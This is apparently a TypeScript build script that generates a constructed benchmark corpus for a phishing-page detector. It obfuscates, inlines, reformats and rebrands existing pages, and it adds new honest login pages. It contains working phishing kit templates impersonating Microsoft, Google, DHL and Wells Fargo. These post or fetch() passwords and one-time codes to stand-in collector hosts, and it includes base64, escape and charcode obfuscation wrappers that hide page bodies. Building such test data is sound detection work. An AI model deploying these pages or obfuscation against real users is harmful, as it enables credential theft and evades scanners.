/**
 * Builds `bench/corpora/page-variants/{dev,heldout}/` for `precursor eval pages`: **constructed** pages
 * written to test whether page verdicts hold when a kit is saved, inlined, reformatted, obfuscated or
 * re-branded, and whether honest sign-in and help pages stay unflagged. Written before the analyzer
 * changes they measure, and not edited to suit them (see SOURCE.md there).
 *
 * Sources:
 * - every page of `bench/corpora/pages/` (kit pages and honest pages of the test corpus), transformed
 *   mechanically (the transforms below);
 * - new kit templates and new honest pages written here, each kit template rendered for several brands.
 *
 * Each (source, transform) pair goes to the held-out part or the dev part by an FNV-1a hash of its
 * name (about 40% held out), so every transform and most sources have pages in both parts. Pages are
 * `DIR/<phishing|benign>/<class>/<name>/index.html` with `url.txt`; the class is the transform (or
 * `new-kit` / `new-honest`), which `precursor eval pages` reports figures for.
 *
 *   node --import tsx bench/corpora/build-page-variants.ts
 * @module
 */
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { packageRoot } from '../../src/detect/domain/package-paths.js';

const root = packageRoot();
const source = join(root, 'bench', 'corpora', 'pages');
const out = join(root, 'bench', 'corpora', 'page-variants');

interface Page {
  readonly name: string;
  readonly html: string;
  readonly url: string;
  readonly phishing: boolean;
}

const fnv1a = (s: string): number => {
  let h = 0x811c9dc5;
  for (let i = 0; i < s.length; i++) {
    h ^= s.charCodeAt(i);
    h = Math.imul(h, 0x01000193) >>> 0;
  }
  return h >>> 0;
};
const heldOut = (key: string): boolean => fnv1a(`page-variants:${key}`) % 10 < 4;

// ---------------------------------------------------------------------------------------------------
// Transforms. Each is mechanical: it rewrites markup the same way whatever the page says.

const ATTRS = /([^\s=/>]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g;
const TAG = /<([a-zA-Z][a-zA-Z0-9-]*)(\s[^<>]*?)?(\/?)>/g;

/** Reverses attribute order, switches quotes to single where possible and re-indents between tags. */
function reformat(html: string): string {
  const retagged = html.replace(TAG, (_m, tag: string, attrs: string | undefined, slash: string) => {
    if (!attrs?.trim()) return `<${tag}${slash}>`;
    const list = [...attrs.matchAll(ATTRS)].map((a) => {
      const v = a[2];
      if (v === undefined) return a[1];
      const inner = v.startsWith('"') || v.startsWith("'") ? v.slice(1, -1) : v;
      return inner.includes("'") ? `${a[1]}="${inner}"` : `${a[1]}='${inner}'`;
    });
    return `<${tag}\n    ${list.reverse().join('\n    ')}${slash}>`;
  });
  // Line breaks between tags outside scripts (script text is left as it is).
  return retagged.replace(/>(\s*)<(?!\/script)/g, (_m) => '>\n  <');
}

const basename = (u: string): string => {
  const path = u.split(/[?#]/)[0] ?? '';
  const b = path.slice(path.lastIndexOf('/') + 1);
  return b || 'index';
};

/**
 * "Save page as, complete": absolute resource URLs become files in `./<title>_files/`; with `comment`,
 * the browser's "saved from url" line naming the page's own URL is kept (Chrome writes one, Firefox
 * does not).
 */
function savedAs(html: string, url: string, comment: boolean): string {
  const title = /<title>([^<]*)<\/title>/i.exec(html)?.[1]?.trim() || 'page';
  const dir = `./${title.replace(/[\\/:*?"<>|]/g, '_')}_files/`;
  let body = html.replace(
    /\b(src|href)\s*=\s*(["'])(https?:\/\/[^"']+)\2/gi,
    (_m, attr: string, q: string, u: string) =>
      /^a$/i.test(attr) ? _m : `${attr}=${q}${dir}${basename(u)}${q}`,
  );
  if (comment) {
    const n = String(url.length).padStart(4, '0');
    body = body.replace(/^(<!doctype[^>]*>)?/i, (d) => `${d ?? ''}\n<!-- saved from url=(${n})${url} -->`);
  }
  return body;
}

const PNG_1x1 =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

/** A single-file save: external images, styles and scripts inlined (data: URIs, inline blocks). */
function inlined(html: string): string {
  return html
    .replace(
      /<script\b([^>]*?)\bsrc\s*=\s*(["'])([^"']+)\2([^>]*)>\s*<\/script>/gi,
      (_m, a: string, _q: string, u: string, b: string) =>
        `<script${a}${b}>/* ${basename(u)} */\n(function(){var d=document;d.documentElement.className+=' js';})();</script>`,
    )
    .replace(
      /<link\b[^>]*\brel\s*=\s*["']?stylesheet["']?[^>]*>/gi,
      '<style>body{font-family:Segoe UI,Arial,sans-serif;margin:0}.card{max-width:440px;margin:40px auto}</style>',
    )
    .replace(
      /<img\b([^>]*?)\bsrc\s*=\s*(["'])([^"']+)\2/gi,
      (_m, a: string, q: string) => `<img${a}src=${q}data:image/png;base64,${PNG_1x1}${q}`,
    )
    .replace(
      /<link\b([^>]*\brel\s*=\s*["']?(?:shortcut )?icon["']?[^>]*?)\bhref\s*=\s*(["'])([^"']+)\2/gi,
      (_m, a: string, q: string) => `<link${a}href=${q}data:image/png;base64,${PNG_1x1}${q}`,
    );
}

const bodyOf = (html: string): { head: string; body: string; tail: string } => {
  const open = /<body\b[^>]*>/i.exec(html);
  const close = html.search(/<\/body>/i);
  if (!open || close < 0)
    return { head: '<!DOCTYPE html><html><head></head><body>', body: html, tail: '</body></html>' };
  const start = open.index + open[0].length;
  return { head: html.slice(0, start), body: html.slice(start, close), tail: html.slice(close) };
};

type Wrap = (body: string) => string;

const WRAPS: Record<string, Wrap> = {
  // The body becomes a script that writes it back.
  'obf-base64': (b) =>
    `<script>document.write(atob("${Buffer.from(b, 'utf8').toString('base64')}"));</script>`,
  'obf-base64-split': (b) => {
    const s = Buffer.from(b, 'utf8').toString('base64');
    const parts: string[] = [];
    for (let i = 0; i < s.length; i += 76) parts.push(`"${s.slice(i, i + 76)}"`);
    return `<script>var _p=[${parts.join(',\n')}].join('');document.write(window.atob(_p));</script>`;
  },
  'obf-escape': (b) =>
    `<script>document.write(unescape('${[...Buffer.from(b, 'utf8')].map((c) => `%${c.toString(16).padStart(2, '0').toUpperCase()}`).join('')}'));</script>`,
  'obf-charcode': (b) =>
    `<script>var c=[${[...b].map((ch) => ch.charCodeAt(0)).join(',')}];document.write(String.fromCharCode.apply(null,c));</script>`,
  'obf-hex': (b) =>
    `<script>document.write("${[...Buffer.from(b, 'utf8')].map((c) => `\\x${c.toString(16).padStart(2, '0')}`).join('')}");</script>`,
};

function wrapBody(html: string, wrap: Wrap): string {
  const { head, body, tail } = bodyOf(html);
  return `${head}${wrap(body)}${tail}`;
}

interface Brand {
  readonly id: string;
  readonly terms: readonly [RegExp, string][];
}

/** Text replacements from Microsoft's names to another brand's (text and alt/title only, not hosts). */
const BRANDS: readonly Brand[] = [
  {
    id: 'google',
    terms: [
      [/Microsoft 365|Office 365|O365/g, 'Google Workspace'],
      [/OneDrive|SharePoint/g, 'Google Drive'],
      [/Outlook/g, 'Gmail'],
      [/Microsoft/g, 'Google'],
    ],
  },
  {
    id: 'dhl',
    terms: [
      [/Microsoft 365|Office 365|O365/g, 'MyDHL+'],
      [/OneDrive|SharePoint|Outlook/g, 'DHL Express'],
      [/Microsoft/g, 'DHL'],
    ],
  },
  {
    id: 'bank',
    terms: [
      [/Microsoft 365|Office 365|O365/g, 'Barclays Online Banking'],
      [/OneDrive|SharePoint|Outlook/g, 'Barclays'],
      [/Microsoft/g, 'Barclays'],
    ],
  },
];

/** Replaces brand names in text nodes and in alt/title/aria-label values, never in tags or URLs. */
function rebrand(html: string, brand: Brand): string {
  const swap = (s: string): string => brand.terms.reduce((t, [re, to]) => t.replace(re, to), s);
  return html
    .replace(/>([^<]+)</g, (_m, t: string) => `>${swap(t)}<`)
    .replace(
      /\b(alt|title|aria-label)\s*=\s*(["'])([^"']*)\2/gi,
      (_m, a: string, q: string, v: string) => `${a}=${q}${swap(v)}${q}`,
    );
}

// ---------------------------------------------------------------------------------------------------
// New kit templates (phishing), rendered per brand, and new honest pages.

interface KitBrand {
  readonly id: string;
  readonly name: string;
  readonly product: string;
}
const KIT_BRANDS: readonly KitBrand[] = [
  { id: 'microsoft', name: 'Microsoft', product: 'Microsoft 365' },
  { id: 'google', name: 'Google', product: 'Google Workspace' },
  { id: 'dhl', name: 'DHL', product: 'DHL Express' },
  { id: 'wellsfargo', name: 'Wells Fargo', product: 'Wells Fargo Online' },
];

const LOGO_SVG = (label: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="108" height="24" role="img" aria-label="${label}"><title>${label}</title><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/></svg>`;

const KIT_TEMPLATES: Record<string, (b: KitBrand) => { html: string; url: string }> = {
  // A "verify your identity" page saved to disk and re-hosted on a compromised site: relative
  // resources, the brand in text and an image, the form posting to a script on another origin.
  'verify-identity-saved': (b) => ({
    url: `https://oakridge-dental.com/wp-includes/css/${b.id}/verify/`,
    html: `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Verify your identity</title>
<link rel="stylesheet" href="./Verify your identity_files/app.min.css">
<link rel="icon" href="./Verify your identity_files/favicon.ico"></head>
<body><div class="card"><img src="./Verify your identity_files/logo.png" alt="${b.name}">
<h1>Verify your identity</h1>
<p>For your security, we need to confirm it's you before you continue to your ${b.product} account.</p>
<form method="post" action="https://secure-relay.cloudsvc-auth.net/api/verify.php">
<input type="email" name="login" placeholder="Email address" required>
<input type="password" name="pwd" placeholder="Password" required>
<button type="submit">Verify</button></form>
<p class="small">&copy; 2025 ${b.name}</p></div></body></html>`,
  }),
  // The logo as inline SVG, the brand in the title, a script that posts the fields with fetch.
  'inline-svg-fetch': (b) => ({
    url: `https://${b.id.slice(0, 3)}-docs-access.click/session/`,
    html: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Sign in - ${b.name}</title>
<style>body{background:#f2f2f2}.box{width:360px;margin:80px auto;background:#fff;padding:40px}</style></head>
<body><div class="box">${LOGO_SVG(b.name)}
<h2>Sign in</h2><p>to continue to ${b.product}</p>
<input id="u" type="text" placeholder="Email, phone, or username">
<input id="p" type="password" placeholder="Password">
<button id="go">Next</button></div>
<script>document.getElementById('go').onclick=function(){fetch('https://collect.docs-sync-node.top/r.php',{method:'POST',body:JSON.stringify({u:document.getElementById('u').value,p:document.getElementById('p').value})}).then(function(){location.href='https://www.bing.com'});};</script>
</body></html>`,
  }),
  // A shared-document lure with no brand markup at all beyond the words.
  'shared-document': (b) => ({
    url: 'https://riverside-community-choir.org/media/doc/view.html',
    html: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Shared document</title></head>
<body><table width="100%"><tr><td align="center">
<h3>${b.name} - A document has been shared with you</h3>
<p>Purchase Order #88213.pdf (212 KB)</p>
<p>To view the shared document, confirm your email account below.</p>
<form action="https://formhandler.fastdrop-mail.ru/send.php" method="POST">
<input type="text" name="email" placeholder="Email"><br>
<input type="password" name="password" placeholder="Email password"><br>
<input type="submit" value="View Document"></form>
</td></tr></table></body></html>`,
  }),
  // A one-time-code step after the password (the second page of an adversary-in-the-middle kit).
  'code-step': (b) => ({
    url: `https://${b.id.slice(0, 4)}-secure-verify.online/step2`,
    html: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${b.name} account</title></head>
<body><div><img src="assets/brand.png" alt="${b.name} logo">
<h2>Enter code</h2><p>We sent a verification code to your phone. Enter it to continue to ${b.product}.</p>
<form method="post" action="https://otp-gate.authflow-check.site/next.php">
<input type="text" name="otc" autocomplete="one-time-code" inputmode="numeric" maxlength="8">
<input type="hidden" name="email" value="">
<button>Verify</button></form></div></body></html>`,
  }),
};

const HONEST: readonly { name: string; url: string; html: string }[] = [
  {
    name: 'customer-portal-login',
    url: 'https://portal.brightline-logistics.com/login',
    html: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Customer portal – Brightline Logistics</title>
<link rel="stylesheet" href="/assets/portal.css"><link rel="icon" href="/favicon.ico"></head>
<body><header><a href="https://www.brightline-logistics.com/">Brightline Logistics</a></header>
<main><h1>Sign in to the customer portal</h1><p>Track shipments, download invoices and book collections.</p>
<form method="post" action="/session"><input type="hidden" name="authenticity_token" value="k3Jd0c2x9QzvL1">
<label for="email">Email</label><input type="email" id="email" name="user[email]" autocomplete="username">
<label for="password">Password</label><input type="password" id="password" name="user[password]" autocomplete="current-password">
<button type="submit">Sign in</button></form>
<p><a href="/password/new">Forgot your password?</a> · <a href="/register">Request an account</a></p></main>
<footer><a href="/privacy">Privacy</a> <a href="/terms">Terms</a> <a href="/contact">Contact</a></footer></body></html>`,
  },
  {
    name: 'nextcloud-login',
    url: 'https://cloud.ferncreek-school.org/login',
    html: `<!DOCTYPE html><html class="ng-csp" data-placeholder-focus="false" lang="en"><head><meta charset="utf-8"><title>Login – Ferncreek School Cloud</title>
<link rel="stylesheet" href="/core/css/guest.css"><script src="/core/js/login.js"></script></head>
<body id="body-login"><div class="wrapper"><header><div id="header"><div class="logo"><h1 class="hidden-visually">Ferncreek School Cloud</h1></div></div></header>
<main><form method="post" name="login" action="/login"><fieldset><p class="grouptop"><input type="text" name="user" id="user" placeholder="Username or email" autocomplete="username" required>
<label for="user" class="infield">Username or email</label></p><p class="groupbottom"><input type="password" name="password" id="password" placeholder="Password" autocomplete="current-password" required></p>
<input type="submit" id="submit-form" value="Log in"><input type="hidden" name="requesttoken" value="Zm9vYmFyYmF6"></fieldset></form>
<a id="lost-password" href="/lostpassword">Forgot password?</a></main></div>
<footer><p class="info">Ferncreek School Cloud – a safe home for all your data</p></footer></body></html>`,
  },
  {
    name: 'roundcube-webmail',
    url: 'https://webmail.kestrelnet.co.uk/?_task=login',
    html: `<!DOCTYPE html><html><head><meta charset="UTF-8"><title>Kestrelnet Webmail :: Welcome to Kestrelnet Webmail</title>
<link rel="stylesheet" href="skins/elastic/styles/styles.min.css"><script src="program/js/app.min.js"></script></head>
<body class="task-login action-none"><div id="layout"><h1 class="voice">Kestrelnet Webmail Login</h1>
<div id="logo"><img src="skins/elastic/images/logo.svg" alt="Kestrelnet Webmail"></div>
<form id="login-form" name="login-form" method="post" action="./?_task=login"><input type="hidden" name="_token" value="jvYzq1wFzZ2bX4">
<input type="hidden" name="_task" value="login"><input type="hidden" name="_action" value="login">
<table><tr><td class="title"><label for="rcmloginuser">Username</label></td><td><input name="_user" id="rcmloginuser" required size="40" autocapitalize="off" autocomplete="off" type="text"></td></tr>
<tr><td class="title"><label for="rcmloginpwd">Password</label></td><td><input name="_pass" id="rcmloginpwd" required size="40" autocapitalize="off" autocomplete="off" type="password"></td></tr></table>
<p class="formbuttons"><button type="submit" id="rcmloginsubmit">Login</button></p></form></div>
<div id="login-footer">Kestrelnet Webmail · <a href="https://www.kestrelnet.co.uk/support">Get support</a></div></body></html>`,
  },
  {
    name: 'it-help-m365-setup',
    url: 'https://www.pinecrest-it.com/help/microsoft-365-outlook-setup',
    html: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>How to set up Microsoft 365 email in Outlook | Pinecrest IT</title></head>
<body><nav><a href="/">Pinecrest IT</a> <a href="/services">Services</a> <a href="/help">Help centre</a> <a href="/contact">Contact</a></nav>
<article><h1>How to set up Microsoft 365 email in Outlook</h1>
<p>This guide walks you through adding your Microsoft 365 mailbox to Outlook for Windows and Mac. You will need your work email address and the password you use to sign in to Microsoft 365.</p>
<ol><li>Open Outlook and choose File &gt; Add Account.</li><li>Enter your work email address and select Connect.</li>
<li>When the Microsoft sign-in window appears, enter your password and approve the request in the Microsoft Authenticator app.</li>
<li>Outlook will download your mail, calendar and OneDrive shortcuts.</li></ol>
<p>Never enter your Microsoft 365 password on a page reached from an email link. If in doubt, call our help desk.</p>
<img src="/img/help/outlook-add-account.png" alt="Outlook Add Account window"></article>
<aside><h2>Still stuck?</h2><form action="/contact" method="post"><input type="email" name="email" placeholder="Your email"><textarea name="message"></textarea><button>Send</button></form></aside>
<footer><a href="/privacy">Privacy</a> <a href="/terms">Terms</a></footer></body></html>`,
  },
  {
    name: 'university-adfs',
    url: 'https://sts.lakeside-university.edu/adfs/ls/?client-request-id=1f0c&wa=wsignin1.0',
    html: `<!DOCTYPE html><html lang="en-US"><head><meta http-equiv="X-UA-Compatible" content="IE=edge"><meta charset="utf-8"><title>Sign In</title>
<link rel="stylesheet" href="/adfs/portal/css/style.css?id=D74D4D6F"></head>
<body dir="ltr" class="body"><div id="fullPage"><div id="brandingWrapper" class="float"><div id="branding"></div></div>
<div id="contentWrapper" class="float"><div id="content"><div id="header"><img class="logoImage" src="/adfs/portal/logo/logo.png" alt="Lakeside University"></div>
<main><div id="workArea"><div id="authArea" class="groupMargin"><div id="loginArea"><div id="loginMessage" class="groupMargin">Sign in with your organizational account</div>
<form method="post" id="loginForm" autocomplete="off" novalidate action="/adfs/ls/?client-request-id=1f0c&amp;wa=wsignin1.0">
<div id="formsAuthenticationArea"><div id="userNameArea"><label id="userNameInputLabel" for="userNameInput" class="hidden">User Account</label>
<input id="userNameInput" name="UserName" type="email" value="" class="text fullWidth" spellcheck="false" placeholder="someone@example.com" autocomplete="off"></div>
<div id="passwordArea"><label id="passwordInputLabel" for="passwordInput" class="hidden">Password</label>
<input id="passwordInput" name="Password" type="password" class="text fullWidth" placeholder="Password" autocomplete="off"></div>
<div id="submissionArea" class="submitMargin"><span id="submitButton" class="submit" tabindex="0" role="button">Sign in</span></div></div>
<input id="optionForms" type="hidden" name="AuthMethod" value="FormsAuthentication"></form></div></div></div></main>
<div id="footerPlaceholder"></div></div><footer id="footer"><div id="footerLinks" class="floatReverse"><div><span id="copyright">&#169; 2018 Microsoft</span></div></div></footer></div></div>
<script src="/adfs/portal/script/onload.js"></script></body></html>`,
  },
  {
    name: 'telco-voicemail-portal',
    url: 'https://myaccount.bluewave-telecom.com/voicemail/login',
    html: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Visual Voicemail – Bluewave</title>
<link rel="stylesheet" href="/static/css/myaccount.css"></head>
<body><header><a href="https://www.bluewave-telecom.com/">Bluewave</a> <a href="/help">Help</a> <a href="/plans">Plans</a> <a href="/coverage">Coverage</a></header>
<main><h1>Sign in to listen to your voicemail</h1><p>Use your Bluewave mobile number and your voicemail PIN.</p>
<form method="post" action="/voicemail/login"><input type="tel" name="msisdn" id="phone" placeholder="Mobile number">
<input type="password" name="pin" id="pin" inputmode="numeric" placeholder="Voicemail PIN"><button>Sign in</button></form>
<p><a href="/voicemail/reset-pin">Reset your PIN</a></p></main>
<footer><a href="/privacy">Privacy</a> <a href="/accessibility">Accessibility</a> <a href="/contact">Contact us</a></footer></body></html>`,
  },
  {
    name: 'workspace-reseller-help',
    url: 'https://www.tallgrass-cloud.com/blog/moving-to-google-workspace',
    html: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Moving your office to Google Workspace – Tallgrass Cloud</title></head>
<body><nav><a href="/">Tallgrass Cloud</a> <a href="/blog">Blog</a> <a href="/pricing">Pricing</a> <a href="/about">About</a></nav>
<article><h1>Moving your office to Google Workspace</h1>
<p>Google Workspace bundles Gmail, Google Drive, Meet and Calendar. Moving from an on-premises mail server takes a weekend for most small offices.</p>
<p>Before the move, export each mailbox and ask staff to sign in to Gmail once from the office, so Google can recognise the network.</p>
<p>After the move, your team signs in at the usual Google sign-in page; we never ask for your password by email.</p></article>
<form action="/newsletter" method="post"><input type="email" name="email" placeholder="Email for our newsletter"><button>Subscribe</button></form>
<footer><a href="/privacy">Privacy</a></footer></body></html>`,
  },
  {
    name: 'bank-own-login',
    url: 'https://secure.chase.com/web/auth/logon',
    html: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Sign in - chase.com</title>
<link rel="stylesheet" href="https://static.chasecdn.com/web/css/logon.css"></head>
<body><header><img src="https://static.chasecdn.com/content/logo.svg" alt="Chase"></header>
<main><h1>Welcome</h1><form id="login" method="post" action="/web/auth/logon"><label for="userId">Username</label>
<input id="userId" name="userId" type="text" autocomplete="username"><label for="password">Password</label>
<input id="password" name="password" type="password" autocomplete="current-password"><button>Sign in</button></form>
<p><a href="/web/auth/forgot">Forgot username/password?</a> <a href="/web/auth/enroll">Not enrolled? Sign up now.</a></p></main>
<footer>Chase Online · JPMorgan Chase Bank, N.A. Member FDIC</footer></body></html>`,
  },
  {
    name: 'woocommerce-my-account',
    url: 'https://shop.tinyteapot.co.uk/my-account/',
    html: `<!DOCTYPE html><html lang="en-GB"><head><meta charset="UTF-8"><title>My account – The Tiny Teapot</title>
<link rel="stylesheet" href="https://shop.tinyteapot.co.uk/wp-content/plugins/woocommerce/assets/css/woocommerce.css"></head>
<body class="woocommerce-account"><header><a href="https://shop.tinyteapot.co.uk/">The Tiny Teapot</a> <a href="/shop/">Shop</a> <a href="/basket/">Basket</a></header>
<div class="woocommerce"><h2>Login</h2><form class="woocommerce-form woocommerce-form-login login" method="post">
<p><label for="username">Username or email address</label><input type="text" class="woocommerce-Input" name="username" id="username" autocomplete="username"></p>
<p><label for="password">Password</label><input class="woocommerce-Input" type="password" name="password" id="password" autocomplete="current-password"></p>
<input type="hidden" id="woocommerce-login-nonce" name="woocommerce-login-nonce" value="5e1f2a9c1d"><button type="submit" name="login" value="Log in">Log in</button>
<a href="https://shop.tinyteapot.co.uk/my-account/lost-password/">Lost your password?</a></form></div>
<footer>&copy; The Tiny Teapot</footer></body></html>`,
  },
  {
    name: 'saas-social-signin',
    url: 'https://app.taskflow.io/login',
    html: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Log in | Taskflow</title><link rel="stylesheet" href="/assets/app.css"></head>
<body><main class="auth"><h1>Log in to Taskflow</h1>
<a class="sso" href="/auth/google"><img src="/assets/google-g.svg" alt="Google logo"> Continue with Google</a>
<a class="sso" href="/auth/microsoft"><img src="/assets/ms-logo.svg" alt="Microsoft logo"> Continue with Microsoft</a>
<p class="or">or</p><form method="post" action="/login"><input type="email" name="email" placeholder="Work email">
<input type="password" name="password" placeholder="Password"><button>Log in</button></form>
<p><a href="/forgot">Forgot password?</a> · <a href="/signup">Create an account</a></p></main></body></html>`,
  },
  {
    name: 'onprem-owa',
    url: 'https://mail.harrow-engineering.com/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.harrow-engineering.com%2fowa%2f',
    html: `<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><title>Outlook</title>
<link rel="shortcut icon" href="/owa/auth/15.2.1118/themes/resources/favicon.ico" type="image/x-icon"><link rel="stylesheet" href="/owa/auth/15.2.1118/themes/resources/logon.css"></head>
<body class="signInBg"><noscript><div>To use Outlook, browser settings must allow scripts to run.</div></noscript>
<form action="/owa/auth.owa" method="POST" name="logonForm" ENCTYPE="application/x-www-form-urlencoded" autocomplete="off"><input type="hidden" name="destination" value="https://mail.harrow-engineering.com/owa/">
<input type="hidden" name="flags" value="4"><input type="hidden" name="forcedownlevel" value="0">
<div class="logonContainer"><div id="lgnDiv" class="logonDiv"><div class="signInImageHeader"><img class="mouse" src="/owa/auth/15.2.1118/themes/resources/owa_text_blue.png" alt="Outlook"></div>
<div class="signInInputLabel" id="userNameLabel">Domain\\user name:</div><div><input id="username" name="username" class="signInInputText" role="textbox" type="text"></div>
<div class="signInInputLabel" id="passwordLabel">Password:</div><div><input id="password" name="password" class="signInInputText" type="password"></div>
<div class="signInEnter"><div class="signinbutton" role="button" tabIndex="0"><span class="signinTxt">sign in</span></div></div></div></div></form></body></html>`,
  },
  {
    name: 'dental-booking-login',
    url: 'https://book.oakridge-dental.com/patients/sign_in',
    html: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Patient sign in – Oakridge Dental</title></head>
<body><h1>Oakridge Dental</h1><p>Sign in to book or change an appointment, or to pay an invoice online.</p>
<form action="/patients/sign_in" method="post"><input type="hidden" name="authenticity_token" value="aGVsbG8">
<input type="email" name="patient[email]" placeholder="Email"><input type="password" name="patient[password]" placeholder="Password">
<label><input type="checkbox" name="patient[remember_me]"> Remember me</label><button>Sign in</button></form>
<p><a href="/patients/password/new">Forgot your password?</a></p><p>Oakridge Dental · 12 Main St · <a href="/contact">Contact</a></p></body></html>`,
  },
];

// ---------------------------------------------------------------------------------------------------

function readSource(): Page[] {
  const pages: Page[] = [];
  for (const label of ['phishing', 'benign'] as const)
    for (const name of readdirSync(join(source, label)).sort()) {
      const dir = join(source, label, name);
      if (!existsSync(join(dir, 'index.html'))) continue;
      pages.push({
        name,
        html: readFileSync(join(dir, 'index.html'), 'utf8'),
        url: readFileSync(join(dir, 'url.txt'), 'utf8').trim(),
        phishing: label === 'phishing',
      });
    }
  return pages;
}

interface Variant {
  readonly cls: string;
  readonly name: string;
  readonly html: string;
  readonly url: string;
  readonly phishing: boolean;
  readonly key: string;
}

function variants(): Variant[] {
  const list: Variant[] = [];
  const add = (cls: string, p: Page, html: string, key = `${p.name}/${cls}`) =>
    list.push({ cls, name: p.name, html, url: p.url, phishing: p.phishing, key });
  for (const p of readSource()) {
    add('reformatted', p, reformat(p.html));
    add('inlined', p, inlined(p.html));
    if (p.phishing) {
      // Honest pages are not saved-and-re-hosted or wrapped in decoders; kits are.
      add('saved', p, savedAs(p.html, p.url, fnv1a(p.name) % 2 === 0));
      for (const [cls, wrap] of Object.entries(WRAPS)) add(cls, p, wrapBody(p.html, wrap));
    }
    if (/Microsoft|Office 365|Outlook|OneDrive/.test(p.html))
      for (const b of BRANDS) add(`rebrand-${b.id}`, p, rebrand(p.html, b), `${p.name}/rebrand-${b.id}`);
  }
  for (const [id, template] of Object.entries(KIT_TEMPLATES))
    for (const b of KIT_BRANDS) {
      const { html, url } = template(b);
      const p: Page = { name: `${id}-${b.id}`, html, url, phishing: true };
      add('new-kit', p, html);
      // The same template obfuscated, so the new kits meet the decoders too.
      add('new-kit-obf', p, wrapBody(html, WRAPS['obf-base64'] as Wrap));
    }
  for (const h of HONEST) {
    const p: Page = { name: h.name, html: h.html, url: h.url, phishing: false };
    add('new-honest', p, h.html);
    add('new-honest-inlined', p, inlined(h.html));
  }
  return list;
}

rmSync(join(out, 'dev'), { recursive: true, force: true });
rmSync(join(out, 'heldout'), { recursive: true, force: true });
const counts = { dev: 0, heldout: 0 };
for (const v of variants()) {
  const part = heldOut(v.key) ? 'heldout' : 'dev';
  const dir = join(out, part, v.phishing ? 'phishing' : 'benign', v.cls, v.name);
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'index.html'), v.html);
  writeFileSync(join(dir, 'url.txt'), `${v.url}\n`);
  counts[part]++;
}
console.log(`dev ${counts.dev} pages, heldout ${counts.heldout} pages`);
